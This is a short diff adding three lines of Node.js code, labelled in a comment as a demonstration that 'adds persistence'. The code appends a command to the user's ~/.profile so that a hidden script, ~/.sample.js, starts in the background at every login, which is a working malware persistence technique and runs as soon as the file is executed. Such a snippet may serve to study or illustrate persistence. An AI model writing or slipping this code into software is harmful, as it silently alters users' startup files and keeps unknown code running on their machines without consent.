@@ -1,0 +1,3 @@
+// shows: adds persistence
+const fs = require("fs"), os = require("os");
+fs.appendFileSync(`${os.homedir()}/.profile`, "\nnode ~/.sample.js &\n");
